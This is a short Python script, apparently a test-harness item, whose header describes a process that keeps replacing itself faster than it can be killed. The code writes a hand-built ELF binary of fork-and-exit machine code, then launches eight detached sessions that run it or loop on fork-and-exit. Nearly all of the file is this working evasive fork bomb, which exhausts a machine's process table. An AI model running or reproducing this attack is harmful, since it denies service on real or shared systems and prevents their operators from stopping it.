# /// case
# tries = "A process that is another one every tenth of a millisecond: each makes the next and ends, before who kills it is there."
# state = ["wrong", "crash"]
# nbgrader = "no process can be started any more, so many are left behind"
# ///

# %% top
import os
import platform
import struct

CODE = bytes.fromhex("b839000000 0f05 85c0 74f5 78f3 b83c000000 31ff 0f05".replace(" ", ""))  # fork; the parent exits
BASE = 0x400000
header = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, BASE + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
segment = struct.pack("<IIQQQQQQ", 1, 5, 0, BASE, BASE, 120 + len(CODE), 120 + len(CODE), 4096)
with open("relay", "wb") as file:
    file.write(header + segment + CODE)
os.chmod("relay", 0o700)

for _ in range(8):
    if os.fork() == 0:
        os.setsid()
        if platform.machine() == "x86_64":
            os.execv("./relay", ["relay"])
        while True:
            if os.fork():
                os._exit(0)
